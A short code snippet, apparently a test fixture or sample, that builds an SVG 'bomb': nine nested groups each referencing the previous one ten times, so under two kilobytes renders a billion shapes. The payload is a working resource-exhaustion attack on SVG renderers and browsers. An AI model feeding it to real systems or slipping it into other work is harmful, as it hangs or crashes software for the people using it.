/** Nine groups, each drawing the previous one ten times: 10⁹ shapes in under two kilobytes. */
export const svgBomb = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path id="a0" d="M0 0h9v9z"/>${Array.from(
  { length: 9 },
  (_, level) => `<g id="a${level + 1}">${`<use href="#a${level}"/>`.repeat(10)}</g>`,
).join("")}</svg>`;
